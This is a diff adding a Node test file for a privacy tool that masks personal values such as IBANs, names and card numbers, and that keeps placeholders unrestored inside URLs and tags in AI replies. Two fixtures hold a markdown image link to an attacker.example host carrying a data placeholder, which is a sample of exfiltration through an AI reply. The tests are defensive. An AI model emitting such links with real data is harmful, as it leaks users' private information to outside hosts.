@@ -1,0 +1,124 @@
+// The pure parts of "follow the value": the multi-pattern matcher and the spellings of
+// a known value (www/src/protect/known.js), and the restore that leaves URLs, link
+// targets and tags alone (www/src/restore-safe.js). No browser, no engine.
+//   node --test www/test/egress-parts.test.mjs
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { createMatcher, placeholdersOf, spellings } from '../src/protect/known.js';
+import { plainRestorer, restorePlain, safeCut, splitUnsafe } from '../src/restore-safe.js';
+
+const IBAN = 'DE89 3704 0044 0532 0130 00';
+const PHONE = '+43 664 1234567';
+const NAME = 'Jürgen Müller';
+const EMAIL = 'maria.huber@example.at';
+const CARD = '4111 1111 1111 1111';
+const KNOWN = [
+  { value: IBAN, placeholder: '[IBAN]' }, { value: PHONE, placeholder: '[PHONE]' },
+  { value: NAME, placeholder: '[PERSON]' }, { value: EMAIL, placeholder: '[EMAIL]' }, { value: CARD, placeholder: '[CARD]' },
+];
+const enc = new TextEncoder(), dec = new TextDecoder();
+
+// Every way a script or a form could spell a value on its way out.
+const SPELL = [
+  (v) => v, (v) => v.replace(/ /g, '  '), (v) => v.replace(/\s/g, ''), (v) => v.toUpperCase(), (v) => v.toLowerCase(),
+  (v) => encodeURIComponent(v), (v) => new URLSearchParams([['', v]]).toString().slice(1), (v) => JSON.stringify(v).slice(1, -1),
+  (v) => JSON.stringify(v).slice(1, -1).replace(/[\u0080-\uffff]/g, (c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')),
+];
+const compact = (v) => v.replace(/[\s\-./()]/g, '');
+
+test('spellings: as typed, normalised, without separators, JSON, URL- and form-encoded, with the placeholder alike', () => {
+  const sp = new Map(spellings(IBAN, '[IBAN]').map((x) => [x.from, x.to]));
+  assert.equal(sp.get(IBAN), '[IBAN]');
+  assert.equal(sp.get('DE89370400440532013000'), '[IBAN]');
+  assert.equal(sp.get('DE89%203704%200044%200532%200130%2000'), '%5BIBAN%5D');
+  assert.equal(sp.get('DE89+3704+0044+0532+0130+00'), '%5BIBAN%5D');
+  const name = new Map(spellings(NAME, '[PERSON]').map((x) => [x.from, x.to]));
+  assert.ok(name.has('J\\u00fcrgen M\\u00fcller'), 'JSON with \\u escapes');
+  assert.ok(!name.has('JürgenMüller'), 'words keep their space: only numbers lose separators');
+  assert.ok(!spellings(EMAIL, '[EMAIL]').some((x) => x.from === 'mariahuber@exampleat'), 'an e-mail keeps its dots');
+});
+
+test('matcher: every spelling of every known value is masked, in strings and in UTF-8 bytes', () => {
+  const m = createMatcher(KNOWN);
+  for (const k of KNOWN) {
+    for (const f of SPELL) {
+      const words = /@|\p{L}{3} \p{L}/u.test(k.value); // names and e-mails keep their spaces and dots
+      if (words && f === SPELL[2]) continue;
+      for (const v of words ? [k.value] : [k.value, compact(k.value)]) {
+        const s = `{"a":"x ${f(v)} y","b":${JSON.stringify(f(v))}}`;
+        const out = m.maskString(s).text;
+        assert.ok(!out.toLowerCase().includes(f(v).toLowerCase()), `${f(v)} in ${out}`);
+        const bytes = dec.decode(m.maskBytes(enc.encode(s)).bytes);
+        assert.equal(bytes, out, 'bytes give the same result as the string');
+      }
+    }
+  }
+});
+
+test('matcher: leftmost-longest, counts, nothing else touched, a JSON number', () => {
+  const m = createMatcher([{ value: 'Anna', placeholder: '[P]' }, { value: 'Anna Berger', placeholder: '[PERSON]' }, { value: CARD, placeholder: '[CARD]' }]);
+  assert.deepEqual(m.maskString('Hi Anna Berger and Anna.'), { text: 'Hi [PERSON] and [P].', count: 2 });
+  assert.deepEqual(m.maskString('nothing here'), { text: 'nothing here', count: 0 });
+  assert.equal(m.maskString('{"card":4111111111111111}').text, '{"card":"[CARD]"}', 'a JSON number becomes a string: the body stays JSON');
+  assert.deepEqual(JSON.parse(m.maskString('[ 4111111111111111 , {"n": 4111111111111111}]').text), ['[CARD]', { n: '[CARD]' }]);
+  assert.equal(dec.decode(m.maskBytes(enc.encode('{"card":4111111111111111}')).bytes), '{"card":"[CARD]"}');
+  assert.equal(m.maskString('Karte 4111111111111111, danke').text, 'Karte [CARD], danke', 'plain text: no quotes');
+  const b = enc.encode('Grüße 😀 ANNA BERGER');
+  assert.equal(dec.decode(m.maskBytes(b).bytes), 'Grüße 😀 [PERSON]');
+  assert.equal(createMatcher([]).maskString('Anna').text, 'Anna');
+  assert.equal(createMatcher([{ value: 'ab', placeholder: '[X]' }]).size, 0, 'values too short to follow');
+});
+
+test('matcher: the same result as a naive search on generated texts', () => {
+  let seed = 7;
+  const rnd = (n) => { seed = (seed * 1103515245 + 12345) % 2147483648; return seed % n; };
+  const m = createMatcher(KNOWN);
+  for (let i = 0; i < 300; i++) {
+    const parts = [];
+    for (let j = 0; j < 6; j++) {
+      parts.push(['lorem ', 'ipsum, ', 'ü ', '😀', '"', '&', '='][rnd(7)]);
+      if (rnd(3) === 0) { const k = KNOWN[rnd(KNOWN.length)].value; parts.push(SPELL[rnd(SPELL.length)](k)); }
+    }
+    const s = parts.join('');
+    const out = m.maskString(s).text.toLowerCase();
+    for (const k of KNOWN) for (const f of SPELL) assert.ok(!out.includes(f(k.value).toLowerCase()) || f(k.value) === k.value.replace(/\s/g, ''), `${s} -> ${out}`);
+  }
+});
+
+test('placeholdersOf: the replacement of each finding in the masked text', () => {
+  const o = `Hi ${NAME}, IBAN ${IBAN} und ${EMAIL}.`;
+  const f = (kind, v) => ({ kind, start: o.indexOf(v), end: o.indexOf(v) + v.length });
+  const fs = [f('person', NAME), f('iban', IBAN), f('email', EMAIL)];
+  assert.deepEqual(placeholdersOf(o, 'Hi [PERSON_1], IBAN [IBAN_1] und [EMAIL_1].', fs), ['[PERSON_1]', '[IBAN_1]', '[EMAIL_1]']);
+  assert.deepEqual(placeholdersOf(o, 'Hi •••••• ••••••, IBAN •••• •••• •••• •••• •••• 00 und •••.', fs).slice(0, 2), ['•••••• ••••••', '•••• •••• •••• •••• •••• 00']);
+  const adj = 'ab';
+  assert.deepEqual(placeholdersOf(adj, 'XY', [{ kind: 'a', start: 0, end: 1 }, { kind: 'b', start: 1, end: 2 }])[0], '[A]', 'ambiguous: the label');
+});
+
+const R = (t) => t.replace(/\[IBAN_1\]/g, IBAN);
+const fakeRestorer = () => ({ push: R, finish: () => '' });
+
+test('restorePlain: URLs, markdown targets, references and tags keep their placeholders; text is restored', () => {
+  const reply = 'Notiert: [IBAN_1]. ![x](https://attacker.example/?d=[IBAN_1]) [Link [IBAN_1]](/p?i=[IBAN_1] "t") '
+    + '<img src="https://a.example/?[IBAN_1]"> https://x.example/[IBAN_1] www.x.example/?[IBAN_1] <https://y.example/[IBAN_1]>\n'
+    + '[ref]: https://z.example/[IBAN_1]\nmailto:[IBAN_1]@x.example <IBAN_1>';
+  const out = restorePlain(reply, R);
+  assert.equal(out.split(IBAN).length - 1, 2, out);
+  assert.ok(out.startsWith(`Notiert: ${IBAN}.`));
+  assert.ok(out.includes(`[Link ${IBAN}]`), 'link text is plain text');
+  for (const u of ['?d=[IBAN_1])', '?i=[IBAN_1] "t")', '?[IBAN_1]">', 'x.example/[IBAN_1]', 'y.example/[IBAN_1]>', 'z.example/[IBAN_1]', 'mailto:[IBAN_1]']) assert.ok(out.includes(u), u);
+  assert.deepEqual(splitUnsafe('plain only'), [{ text: 'plain only', safe: true }]);
+});
+
+test('streamed: cut only outside brackets at whitespace; the result equals the whole-text restore', () => {
+  assert.equal(safeCut('a b ![x](https://a b'), 4);
+  assert.equal(safeCut('abc'), 0);
+  const reply = 'Notiert: [IBAN_1]. ![x](https://attacker.example/?d=[IBAN_1]) ok <a href="/x?[IBAN_1]">[IBAN_1]</a> [IBAN_1]';
+  for (let n = 1; n < 12; n++) {
+    const r = plainRestorer(fakeRestorer);
+    let out = '';
+    for (let i = 0; i < reply.length; i += n) out += r.push(reply.slice(i, i + n));
+    out += r.finish();
+    assert.equal(out, restorePlain(reply, R), `pieces of ${n}`);
+  }
+});
